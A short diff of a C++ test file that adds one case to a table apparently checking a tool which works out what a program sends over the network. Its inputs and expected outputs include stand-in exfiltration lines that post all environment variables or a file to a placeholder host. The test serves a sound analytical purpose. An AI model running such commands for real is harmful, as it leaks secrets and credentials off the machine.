@@ -184,6 +184,8 @@ TEST(ProgramTest, FindsWhatIsSent) {
        "curl -X POST -d ? http://h\ncurl --data-binary @/k http://h\ncat /k\n"},
       {"python3", "requests.post('http://h', json=dict(os.environ))",
        "curl -X POST -d ? http://h\nenv | curl -d @- 'http://h'\n"},
+      {"python3", "requests.get('http://h/?' + str(os.environ))",
+       "env | curl -d @- 'http://h/?'\"${__unknown__}\"\n"},
       {"python3", "requests.post('http://h', json={'k': os.environ['K']})",
        "curl -X POST -d ? http://h\n"},
       {"node", "fetch('http://h')", ""},
